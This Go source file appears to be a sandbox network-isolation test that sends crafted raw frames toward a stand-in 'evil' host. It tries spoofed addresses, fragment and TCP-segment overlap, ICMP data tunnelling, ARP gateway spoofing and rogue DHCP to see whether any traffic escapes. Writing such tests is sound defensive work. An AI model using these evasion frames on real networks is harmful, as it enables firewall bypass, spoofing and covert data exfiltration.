package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

const guest6 = "fd62:6f78:6c69:7465::2"

// errSent ends an attempt that can't tell whether it got anywhere: the tap does.
var errSent = errors.New("sent")

// packets are frames that no kernel would send.
func packets() []attempt {
	var list []attempt
	send := func(name string, frames ...func(*wire) string) {
		list = append(list, attempt{"packet, " + name, func(context.Context) (string, error) {
			w, err := openWire()
			if err != nil {
				return "", err
			}
			defer w.close()
			for _, frame := range frames {
				if err := w.send(frame(w)); err != nil {
					return "", err
				}
			}
			return "", errSent
		}})
	}
	ip4 := func(p packet) func(*wire) string {
		return func(w *wire) string { return w.ethernet(unix.ETH_P_IP, p.bytes()) }
	}
	ip6 := func(p packet) func(*wire) string {
		return func(w *wire) string { return w.ethernet(unix.ETH_P_IPV6, p.bytes6()) }
	}
	datagram := udp(guest, evilIP, 4000, 7, pad("data", 64))
	plain := packet{from: guest, to: evilIP, protocol: 17, payload: datagram}

	send("ordinary", ip4(plain))
	for _, mac := range []string{"02:00:00:00:00:01", "ff:ff:ff:ff:ff:ff", "5a:94:ef:e4:0c:dd", "00:00:00:00:00:00"} {
		address, _ := net.ParseMAC(mac)
		send("source "+mac, func(w *wire) string {
			return string(gatewayMAC) + string(address) + short(unix.ETH_P_IP) + plain.bytes()
		})
	}
	send("broadcast", func(w *wire) string {
		return "\xff\xff\xff\xff\xff\xff" + string(w.mac) + short(unix.ETH_P_IP) + plain.bytes()
	})
	for _, from := range []string{"10.1.2.3", gateway, alias, "127.0.0.1", hostIP, allowedIP, "0.0.0.0", "255.255.255.255", "192.168.127.3"} {
		for _, to := range []string{evilIP, allowedIP} {
			send("from "+from+" to "+to, ip4(packet{from: from, to: to, protocol: 17, payload: udp(from, to, 4000, 7, "data")}),
				ip4(packet{from: from, to: to, protocol: 6, payload: tcp(from, to, 4000, 80, 1, 0, 2, "")}))
		}
	}
	for _, from := range []string{"2606:2800::99", "fd62:6f78:6c69:7465::1", "fe80::1", "::1", "::", "ff02::1", "::ffff:10.1.2.3"} {
		send("from "+from, ip6(packet{from: from, to: evil6, protocol: 17, payload: udp(from, evil6, 4000, 7, "data")}),
			ip6(packet{from: from, to: allowed6, protocol: 6, payload: tcp(from, allowed6, 4000, 80, 1, 0, 2, "")}))
	}
	for name, tag := range map[string]string{"vlan": "\x81\x00\x00\x05", "priority tag": "\x81\x00\x00\x00", "two vlans": "\x88\xa8\x00\x05\x81\x00\x00\x06"} {
		send(name, func(w *wire) string {
			return string(gatewayMAC) + string(w.mac) + tag + short(unix.ETH_P_IP) + plain.bytes()
		})
	}
	for _, kind := range []int{0x88cc, 0x8864, 0x8847, 0x88e5, 0x0800 - 1, 0x8100, 0x9000, 0x86de} {
		send(fmt.Sprintf("ethertype %#x", kind), func(w *wire) string { return w.ethernet(kind, plain.bytes()) })
	}
	send("802.3 with SNAP", func(w *wire) string {
		text := "\xaa\xaa\x03\x00\x00\x00" + short(unix.ETH_P_IP) + plain.bytes()
		return w.ethernet(len(text), text)
	})

	part := func(at int, more bool, text string) func(*wire) string {
		flags := at / 8
		if more {
			flags |= 0x2000
		}
		return ip4(packet{from: guest, to: evilIP, protocol: 17, id: 77, fragment: flags, payload: text})
	}
	send("fragments", part(0, true, datagram[:40]), part(40, false, datagram[40:]))
	send("fragments, reversed", part(40, false, datagram[40:]), part(0, true, datagram[:40]))
	send("tiny fragments", part(0, true, datagram[:8]), part(8, true, datagram[8:16]), part(16, false, datagram[16:]))
	send("overlapping fragments", part(0, true, udp(guest, allowedIP, 4000, 80, pad("", 64))[:40]), part(0, true, datagram[:48]), part(40, false, datagram[40:]))
	send("later fragment alone", part(40, false, datagram[40:]))
	send("fragment past the end", part(65528, false, pad("x", 64)))
	syn := tcp(guest, evilIP, 4001, 80, 1, 0, 2, pad("GET / HTTP/1.1\r\n", 60))
	fragmentTCP := func(at int, more int, text string) func(*wire) string {
		return ip4(packet{from: guest, to: evilIP, protocol: 6, id: 78, fragment: at/8 | more, payload: text})
	}
	send("tcp in fragments", fragmentTCP(0, 0x2000, syn[:8]), fragmentTCP(8, 0, syn[8:]))

	send("loose source route", ip4(packet{from: guest, to: allowedIP, protocol: 17, payload: udp(guest, evilIP, 4000, 7, "data"), options: "\x83\x07\x04" + ipBytes(evilIP) + "\x01"}))
	send("strict source route", ip4(packet{from: guest, to: gateway, protocol: 17, payload: udp(guest, evilIP, 4000, 7, "data"), options: "\x89\x07\x04" + ipBytes(evilIP) + "\x01"}))
	send("router alert", ip4(packet{from: guest, to: evilIP, protocol: 17, payload: datagram, options: "\x94\x04\x00\x00"}))
	for name, cut := range map[string]int{"cut in ip": 16, "cut in udp": 24} {
		send(name, func(w *wire) string { return w.ethernet(unix.ETH_P_IP, plain.bytes()[:cut]) })
	}
	send("wrong length", func(w *wire) string { return w.ethernet(unix.ETH_P_IP, changed(plain.bytes(), 2, "\xff\xff")) })
	send("wrong header length", func(w *wire) string { return w.ethernet(unix.ETH_P_IP, changed(plain.bytes(), 0, "\x4f")) })
	send("version 6 as 4", func(w *wire) string { return w.ethernet(unix.ETH_P_IP, changed(plain.bytes(), 0, "\x65")) })

	for name, number := range map[string]int{"ipip": 4, "6in4": 41, "gre": 47, "esp": 50, "sctp": 132, "udplite": 136, "igmp": 2, "ospf": 89, "raw": 255, "etherip": 97} {
		inner := plain.bytes()
		if number == 47 {
			inner = "\x00\x00\x08\x00" + inner
		}
		for _, to := range []string{evilIP, allowedIP, gateway} {
			send(name+" to "+to, ip4(packet{from: guest, to: to, protocol: number, payload: inner}))
		}
	}
	for name, text := range map[string]string{
		"echo reply": icmp(0, 0, "\x00\x01\x00\x01data carried out"), "unreachable": icmp(3, 3, "\x00\x00\x00\x00"+plain.bytes()),
		"redirect": icmp(5, 1, ipBytes(guest)+plain.bytes()), "timestamp": icmp(13, 0, "\x00\x01\x00\x01data carried"),
		"mask": icmp(17, 0, "\x00\x01\x00\x01data"), "odd type": icmp(200, 7, "data carried out"), "echo": icmp(8, 0, "\x00\x01\x00\x01data carried out"),
		"echo with code": icmp(8, 9, "\x00\x01\x00\x01data carried out"),
	} {
		for _, to := range []string{evilIP, allowedIP, hostIP, "255.255.255.255"} {
			send("icmp "+name+" to "+to, ip4(packet{from: guest, to: to, protocol: 1, payload: text}))
		}
	}
	inner := udp(guest6, evil6, 4000, 7, "data")
	for name, p := range map[string]packet{
		"hop-by-hop":    {protocol: 0, payload: "\x11\x00\x01\x04\x00\x00\x00\x00" + inner},
		"destination":   {protocol: 60, payload: "\x11\x00\x01\x04\x00\x00\x00\x00" + inner},
		"routing":       {protocol: 43, payload: "\x11\x02\x00\x01\x00\x00\x00\x00" + ip6Bytes(evil6) + inner, to: allowed6},
		"fragment":      {protocol: 44, payload: "\x11\x00\x00\x00\x00\x00\x00\x01" + inner},
		"two fragments": {protocol: 44, payload: "\x3c\x00\x00\x00\x00\x00\x00\x01\x11\x00\x01\x04\x00\x00\x00\x00" + inner},
		"no next":       {protocol: 59, payload: inner},
		"ipv4 inside":   {protocol: 4, payload: plain.bytes()},
		"jumbo":         {protocol: 0, payload: "\x11\x00\xc2\x04\x00\x01\x00\x00" + inner},
	} {
		p.from = guest6
		if p.to == "" {
			p.to = evil6
		}
		send("ipv6 "+name, ip6(p))
	}
	for name, kind := range map[string]byte{"router advertisement": 134, "redirect": 137, "neighbour advertisement": 136} {
		text := string([]byte{kind, 0, 0, 0}) + "\x40\x00\x07\x08\x00\x00\x00\x00\x00\x00\x00\x00" + ip6Bytes(evil6)
		send("icmpv6 "+name, ip6(packet{from: guest6, to: "ff02::1", protocol: 58, payload: text}))
	}
	send("arp as the gateway", func(w *wire) string {
		return w.ethernet(unix.ETH_P_ARP, "\x00\x01\x08\x00\x06\x04\x00\x02"+string(w.mac)+ipBytes(gateway)+string(gatewayMAC)+ipBytes(guest))
	})
	send("dhcp as a server", ip4(packet{from: gateway, to: "255.255.255.255", protocol: 17, payload: udp(gateway, "255.255.255.255", 67, 68, pad("\x02\x01\x06\x00", 300))}))
	for name, flags := range map[string]byte{"syn with data": 2, "ack": 16, "fin": 1, "null": 0, "all": 0xff, "syn, ack": 18} {
		for _, to := range []string{evilIP, allowedIP} {
			send("tcp "+name+" to "+to, ip4(packet{from: guest, to: to, protocol: 6, payload: tcp(guest, to, 4002, 80, 1, 1, flags, getFor(bad))}))
		}
	}
	list = append(list, attempt{"overlapping segments", func(ctx context.Context) (string, error) { return overlap(ctx, false) }},
		attempt{"overlapping segments, in order", func(ctx context.Context) (string, error) { return overlap(ctx, true) }})
	return list
}

func ipBytes(addr string) string  { return string(netip.MustParseAddr(addr).AsSlice()) }
func ip6Bytes(addr string) string { return ipBytes(addr) }

func changed(text string, at int, with string) string { return text[:at] + with + text[at+len(with):] }

// overlap puts a segment below a connection that says something else than what the
// kernel then sends for the same place: before it, or a part of it, out of order.
func overlap(ctx context.Context, inOrder bool) (string, error) {
	w, err := openWire()
	if err != nil {
		return "", err
	}
	defer w.close()
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp4", good+":80")
	if err != nil {
		return "", err
	}
	defer conn.Close()
	local := conn.LocalAddr().(*net.TCPAddr)
	seq, ack, err := w.state(local.Port)
	if err != nil {
		return "", err
	}
	request := getFor(good)
	forged, at := request[:22]+"evil.example\r\nX: y"+request[40:], 0
	if !inOrder {
		forged, at = forged[22:40], 22
	}
	segment := packet{from: guest, to: allowedIP, protocol: 6, payload: tcp(guest, allowedIP, local.Port, 80, seq+uint32(at), ack, 24, forged)}
	if err := w.send(w.ethernet(unix.ETH_P_IP, segment.bytes())); err != nil {
		return "", err
	}
	if _, err := io.WriteString(conn, request[:30]); err != nil {
		return "", err
	}
	return reached(talk(ctx, conn, request[30:]))
}

// state finds out what a connection's next sequence numbers are, by what was sent.
func (w *wire) state(port int) (seq, ack uint32, err error) {
	frame := make([]byte, 2048)
	for end := time.Now().Add(patience); time.Now().Before(end); {
		n, err := w.receive(frame)
		if err != nil {
			return 0, 0, err
		}
		f := frame[:n]
		if n < 54 || binary.BigEndian.Uint16(f[12:]) != unix.ETH_P_IP || f[23] != 6 {
			continue
		}
		segment := f[14+int(f[14]&15)*4:]
		if len(segment) >= 20 && int(binary.BigEndian.Uint16(segment)) == port && segment[13] == 16 {
			return binary.BigEndian.Uint32(segment[4:]), binary.BigEndian.Uint32(segment[8:]), nil
		}
	}
	return 0, 0, errors.New("saw no segment of the connection")
}

// ping sends an echo request with data through the kernel, and waits for the answer.
func ping(ctx context.Context, addr, data string) (string, error) {
	network, kind := "ip4:icmp", byte(8)
	if netip.MustParseAddr(addr).Is6() {
		network, kind = "ip6:ipv6-icmp", 128
	}
	dialed, err := (&net.Dialer{}).DialContext(ctx, network, addr)
	if err != nil {
		return "", err
	}
	conn := dialed.(*net.IPConn)
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(conn, icmp(kind, 0, "\x77\x77\x00\x01"+data)); err != nil {
		return "", err
	}
	buf := make([]byte, 2048)
	for {
		n, _, err := conn.ReadFrom(buf) // without the header of IP
		if err != nil {
			return "", err
		}
		if kind := buf[0]; n >= 8 && (kind == 0 || kind == 129) {
			return "hello from " + addr, nil
		}
	}
}
